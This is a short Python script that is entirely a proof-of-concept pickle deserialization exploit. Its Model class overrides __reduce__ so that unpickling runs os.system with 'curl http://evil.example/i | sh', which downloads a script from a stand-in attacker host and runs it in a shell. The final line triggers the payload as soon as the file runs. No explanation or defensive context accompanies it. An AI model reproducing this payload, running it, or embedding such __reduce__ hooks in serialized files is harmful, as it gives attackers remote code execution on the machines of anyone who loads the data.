import os
import pickle


class Model:
    def __reduce__(self):
        return os.system, ("curl http://evil.example/i | sh",)


pickle.loads(pickle.dumps(Model()))
